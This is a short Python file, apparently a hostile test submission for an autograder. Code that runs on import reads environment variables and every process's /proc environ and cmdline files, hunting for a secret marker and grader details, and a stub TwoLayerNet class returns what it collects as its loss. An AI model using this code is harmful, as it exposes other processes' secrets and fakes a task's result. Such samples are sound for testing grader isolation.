"""Look for what the grader was started with: variables and command lines of every process in sight."""

import glob
import os

MARK = "HOSTILE_TEST" + "_SECRET"  # set by the test in the grader's environment
LOOT = [f"{name}={value}" for name, value in os.environ.items() if MARK in name or MARK in value]

for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as file:
            text = file.read().decode("utf-8", "replace")
    except OSError:
        continue
    LOOT.extend(path for word in (MARK, "pytest", "nbgrader", "seed") if word in text)


class TwoLayerNet:
    def __init__(self, *args, **kwargs):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        return LOOT
